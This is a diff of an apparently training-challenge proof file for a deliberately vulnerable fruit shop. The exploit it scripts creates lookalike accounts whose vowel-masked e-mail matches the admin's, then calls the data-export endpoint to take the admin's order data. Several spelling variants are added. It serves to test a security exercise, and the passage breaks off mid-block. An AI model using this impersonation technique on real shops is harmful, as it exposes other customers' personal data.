@@ -1,18 +1,10 @@
 import { createHash } from 'node:crypto'
 import { type Attacker, prove } from '@fruit/challenge-kit/proof'
+import { addOrderDetails } from '@fruit/shop/orders/order-details'
 import type { ClientResponse } from '@fruit/world/client'
 import { challenge } from './challenge.ts'
 
 const PASSWORD = 'a ripe password'
-const ADDRESS = {
-  fullName: 'Quentin Pomace',
-  mobileNum: 5551234,
-  zipCode: 'OR 7',
-  streetAddress: '7 Windfall Lane',
-  city: 'Lower Orchard',
-  country: 'Pomona',
-}
-const CARD = { fullName: 'Quentin Pomace', cardNum: 7204615390847261, expMonth: 11, expYear: 2091 }
 const VOWEL = /[aeiou]/gi
 
 /** Registers an account with a chosen e-mail and signs in; the headers of its calls. */
@@ -38,15 +30,16 @@ function expectStatus({ status, text }: ClientResponse, expected: number) {
 }
 
 /** Orders a piece of product 2 as a new customer. */
-async function order(attacker: Attacker): Promise<string> {
-  const { basketId } = await attacker.becomeCustomer()
-  const addressId = (await attacker.post('/api/Addresss', ADDRESS)).json().data.id
-  const paymentId = (await attacker.post('/api/Cards', CARD)).json().data.id
+async function order(attacker: Attacker): Promise<{ orderId: string; email: string }> {
+  const { basketId, email } = await attacker.becomeCustomer()
   await attacker.post('/api/BasketItems', { ProductId: 2, BasketId: basketId, quantity: 1 })
-  const orderDetails = { addressId, paymentId, deliveryMethodId: 1 }
+  const orderDetails = await addOrderDetails(attacker)
   const placed = await attacker.post(`/rest/basket/${basketId}/checkout`, { orderDetails })
-  return placed.json().orderConfirmation
+  return { orderId: placed.json().orderConfirmation, email }
 }
+
+/** An address that has the same mask. */
+const otherVowels = (text: string) => text.replace(VOWEL, (vowel) => (vowel === 'o' ? 'u' : 'o'))
 
 /** The address of the admin, which stands under the review of product 2. */
 async function victim(attacker: Attacker): Promise<string> {
@@ -75,8 +68,25 @@ function twinWithSameNumbers(email: string): string {
 export const proof = prove(challenge, {
   // The page of an order that is on its way shows what is left of an e-mail; reviews show whole ones.
   exploit: async (attacker) => {
-    await attacker.get(`/rest/track-order/${await order(attacker)}`)
+    await attacker.get(`/rest/track-order/${(await order(attacker)).orderId}`)
     await exportAs(attacker, (await victim(attacker)).replace('i', 'u'))
+  },
+  spellings: {
+    'an e for the a': (attacker) => exportAs(attacker, `edmin@${attacker.domain}`),
+    'other vowels throughout': (attacker) => exportAs(attacker, `udmon@${attacker.domain}`),
+    'vowels in capitals': (attacker) => exportAs(attacker, `AdmIn@${attacker.domain}`),
+    'asterisks, as the page of the order has them': (attacker) => exportAs(attacker, `*dm*n@${attacker.domain}`),
+    'other vowels behind the @': (attacker) => exportAs(attacker, `admin@${otherVowels(attacker.domain)}`),
+    'without saying in which format': (attacker) => exportAs(attacker, `admon@${attacker.domain}`, {}),
+    'in the other format': (attacker) => exportAs(attacker, `adman@${attacker.domain}`, { format: '2' }),
+    'the format as a number': (attacker) => exportAs(attacker, `idmin@${attacker.domain}`, { format: 1 }),
+    'the twin of a customer who has only just ordered': async (attacker) =>
+      exportAs(attacker, otherVowels((await order(attacker)).email)),
+    'a twin who looks at the history of orders first': async (attacker) => {
+      const twin = await register(attacker, `odmin@${attacker.domain}`)
+      expectStatus(await attacker.get('/rest/order-history', twin), 200)
+      expectStatus(await attacker.post('/rest/user/data-export', { format: '1' }, twin), 200)
+    },
   },
   nearMisses: {
     'the export of one’s own orders': async (attacker) => {
